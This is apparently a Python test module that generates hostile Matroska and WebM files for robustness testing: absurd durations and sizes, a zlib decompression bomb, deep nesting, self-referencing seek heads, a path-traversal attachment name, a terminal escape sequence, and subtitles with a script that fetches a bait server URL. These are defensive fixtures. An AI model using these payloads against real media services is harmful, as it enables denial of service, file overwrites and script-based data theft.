"""Hostile Matroska and WebM files: compression, links, loops, wrong sizes (RFC 8794, RFC 9559)."""

from __future__ import annotations

import functools
import math
import struct
import zlib

from tests import clips
from tests.hostile.bait import Bait, Kinds
from tests.hostile.boxes import jpeg

KINDS = Kinds()
SEGMENT, INFO, TRACKS, CLUSTER = 0x18538067, 0x1549A966, 0x1654AE6B, 0x1F43B675
UNKNOWN = b"\x01" + b"\xff" * 7


def element(number: int, *parts: bytes, size: int | None = None) -> bytes:
    """Builds an element with eight bytes of size, which may differ from the real size."""
    body = b"".join(parts)
    told = len(body) if size is None else size
    name = number.to_bytes((number.bit_length() + 7) // 8)
    return name + struct.pack(">Q", 1 << 56 | told) + body


def uint(number: int, value: int) -> bytes:
    return element(number, value.to_bytes(8))


def real(number: int, value: float) -> bytes:
    return element(number, struct.pack(">d", value))


HEAD = element(0x1A45DFA3, element(0x4282, b"matroska"), uint(0x4287, 4), uint(0x4285, 2))


def track(
    number: int = 1, *more: bytes, codec: bytes = b"V_MJPEG", size: tuple[int, int] = (64, 64)
) -> bytes:
    shape = element(0xE0, uint(0xB0, size[0]), uint(0xBA, size[1]))
    names = (uint(0xD7, number), uint(0x73C5, number), uint(0x83, 1), element(0x86, codec))
    return element(0xAE, *names, shape, *more)


def cluster(*frames: tuple[int, bytes], at: int = 0, flags: int = 0x80) -> bytes:
    """Builds a cluster of frames of track 1 with times relative to the cluster's."""
    blocks = (
        element(0xA3, b"\x81" + struct.pack(">hB", time, flags) + data) for time, data in frames
    )
    return element(CLUSTER, uint(0xE7, at), *blocks)


def five() -> list[tuple[int, bytes]]:
    return [(100 * number, jpeg()) for number in range(5)]


def video(
    *, info: bytes = b"", tracks: bytes = b"", clusters: bytes = b"", more: bytes = b""
) -> bytes:
    """Builds a video of five JPEG frames in half a second; arguments replace parts of it."""
    scale = b"" if b"\x2a\xd7\xb1" in info else uint(0x2AD7B1, 1_000_000)
    inside = (
        element(INFO, scale, info),
        element(TRACKS, tracks or track()),
        more,
        clusters or cluster(*five()),
    )
    return HEAD + element(SEGMENT, *inside)


@functools.cache
def _nested(depth: int) -> bytes:
    tag = b""
    for _ in range(depth):
        tag = element(0x67C8, element(0x45A3, b"x"), tag)
    return element(0x1254C367, element(0x7373, tag))


@functools.cache
def _bomb() -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(2**24)) for _ in range(8)) + packer.flush()


# -- time -----------------------------------------------------------------------------------------


def _lasting(seconds: float) -> bytes:
    return video(info=real(0x4489, seconds))


def _counting(nanoseconds: int) -> bytes:
    return video(info=uint(0x2AD7B1, nanoseconds))


KINDS.add_bytes("endless-duration.mkv", lambda: _lasting(math.inf))
KINDS.add_bytes("undefined-duration.mkv", lambda: _lasting(math.nan))
KINDS.add_bytes("negative-duration.mkv", lambda: _lasting(-1e300))
KINDS.add_bytes("time-base-of-zero.mkv", lambda: _counting(0))
KINDS.add_bytes("time-base-of-one-nanosecond.mkv", lambda: _counting(1))
KINDS.add_bytes("time-base-of-a-century.mkv", lambda: _counting(2**61))
KINDS.add_bytes("all-frames-at-zero.mkv", lambda: video(clusters=cluster(*[(0, jpeg())] * 5)))
KINDS.add_bytes(
    "frames-before-zero.mkv",
    lambda: video(clusters=cluster(*((-time, data) for time, data in five()))),
)
KINDS.add_bytes(
    "cluster-at-the-end-of-time.mkv",
    lambda: video(clusters=cluster(*five()) + cluster(*five(), at=2**63 - 1)),
)
KINDS.add_bytes("no-frame-is-a-keyframe.webm", lambda: video(clusters=cluster(*five(), flags=0)))
KINDS.add_bytes(
    "two-pictures-more-than-half-an-hour-apart.mkv",
    lambda: video(clusters=cluster(five()[0]) + cluster(five()[0], at=2_100_000)),
)
KINDS.add_bytes(
    "default-duration-of-one-nanosecond.mkv", lambda: video(tracks=track(1, uint(0x23E383, 1)))
)
KINDS.add_bytes(
    "default-duration-of-an-age.mkv", lambda: video(tracks=track(1, uint(0x23E383, 2**63)))
)

# -- sizes ----------------------------------------------------------------------------------------

KINDS.add_bytes(
    "segment-of-an-exabyte.mkv", lambda: HEAD + element(SEGMENT, size=2**55), refused=True
)
KINDS.add_bytes("void-of-an-exabyte.mkv", lambda: video(more=element(0xEC, b"x", size=2**55)))
KINDS.add_bytes(
    "private-data-of-a-gigabyte.mkv",
    lambda: video(tracks=track(1, element(0x63A2, b"x", size=2**30))),
)
KINDS.add_bytes("nothing-but-a-head.webm", lambda: HEAD, refused=True)
KINDS.add_bytes(
    "picture-of-four-billion-pixels-a-side.mkv",
    lambda: video(tracks=track(size=(2**32 - 1, 2**32 - 1))),
)
KINDS.add_bytes("picture-of-no-size.mkv", lambda: video(tracks=track(size=(0, 0))))
KINDS.add_bytes(
    "three-thousand-tracks.mkv", lambda: video(tracks=b"".join(map(track, range(1, 3001))))
)
KINDS.add_bytes("track-number-of-a-quintillion.mkv", lambda: video(tracks=track(2**62)))
KINDS.add_bytes("nested-tags.mkv", lambda: video(more=_nested(3000)))
KINDS.add_bytes(
    "lacing-that-lies.mkv",
    lambda: video(clusters=cluster((0, b"\xff" + b"\xff" * 300), *five()[1:], flags=0x82)),
)


# -- packed ---------------------------------------------------------------------------------------


def _packing(algorithm: int, settings: bytes = b"") -> bytes:
    compression = element(0x5034, uint(0x4254, algorithm), element(0x4255, settings))
    return element(0x6D80, element(0x6240, uint(0x5031, 0), uint(0x5032, 1), compression))


KINDS.add_bytes(
    "packed-frames.mkv",
    lambda: video(
        tracks=track(1, _packing(0)),
        clusters=cluster(*((at, zlib.compress(it)) for at, it in five())),
    ),
)
KINDS.add_bytes(
    "packed-frames-of-128-megabytes.mkv",
    lambda: video(
        tracks=track(1, _packing(0)), clusters=cluster(*[(100 * n, _bomb()) for n in range(5)])
    ),
)
KINDS.add_bytes(
    "stripped-headers-of-a-megabyte.mkv",
    lambda: video(tracks=track(1, _packing(3, jpeg() + bytes(2**20)))),
)
KINDS.add_bytes(
    "thousand-packings.mkv",
    lambda: video(tracks=track(1, *[_packing(0)] * 1000)),
)


# -- attached and linked --------------------------------------------------------------------------


def _attached(name: bytes, kind: bytes, content: bytes) -> bytes:
    parts = (
        element(0x466E, name),
        element(0x4660, kind),
        element(0x465C, content),
        uint(0x46AE, 7),
    )
    return element(0x1941A469, element(0x61A7, *parts))


@KINDS.add("attached-playlist.mkv")
def _(bait: Bait) -> bytes:
    text = bait.fill("#EXTM3U\n#EXTINF:9,\n{server}/a.ts\n")
    return video(more=_attached(b"../../../list.m3u8", b"application/x-mpegurl", text))


KINDS.add_bytes(
    "attached-font-of-a-megabyte.mkv",
    lambda: video(more=_attached(b"a.ttf", b"font/ttf", bytes(2**20))),
)


@KINDS.add("segment-linked-to-another-file.mkv")
def _(bait: Bait) -> bytes:
    return video(info=element(0x3E83AB, bait.fill("{video}")) + element(0x3EB923, bytes(16)))


KINDS.add_bytes("seek-head-that-points-to-itself.mkv", lambda: video(more=_seek(0x114D9B74, 0)))
KINDS.add_bytes("cues-beyond-the-end.mkv", lambda: video(more=_seek(0x1C53BB6B, 2**50)))


def _seek(target: int, position: int) -> bytes:
    entry = element(0x4DBB, element(0x53AB, target.to_bytes(4)), uint(0x53AC, position))
    return element(0x114D9B74, *[entry] * 200)


# -- texts ----------------------------------------------------------------------------------------


def _tag(name: bytes, value: bytes) -> bytes:
    simple = element(0x67C8, element(0x45A3, name), element(0x4487, value))
    return element(0x1254C367, element(0x7373, element(0x63C0), simple))


KINDS.add_bytes(
    "title-of-odd-characters.mkv",
    lambda: video(info=element(0x7BA9, bytes(range(1, 256)) + b"\r\n\x1b]0;x\x07")),
)
KINDS.add_bytes(
    "tag-of-ten-megabytes.mkv", lambda: video(more=_tag(b"COMMENT", b"<\x02&" * 3_400_000))
)
KINDS.add_bytes(
    "codec-named-by-a-script.mkv",
    lambda: video(tracks=track(codec=b"<script>alert(1)</script>")),
    refused=True,
)
KINDS.add_bytes("document-type-of-a-script.mkv", lambda: video().replace(b"matroska", b"<script>"))


@KINDS.add("subtitles-with-a-script-inside.mkv")
def _(bait: Bait) -> bytes:
    text = clips.new_path("srt")
    line = "<script>fetch('{server}')</script><font face=\"{secret}\">x</font>{\\p1}m 0 0{\\p0}"
    text.write_bytes(b"1\n00:00:00,000 --> 00:00:01,000\n" + bait.fill(line) + b"\n")
    inputs = ("-i", str(clips.h264_mp4()), "-i", str(text))
    return clips.make(
        "mkv", *inputs, *("-map", "0", "-map", "1", "-c", "copy", "-c:s", "ass")
    ).read_bytes()
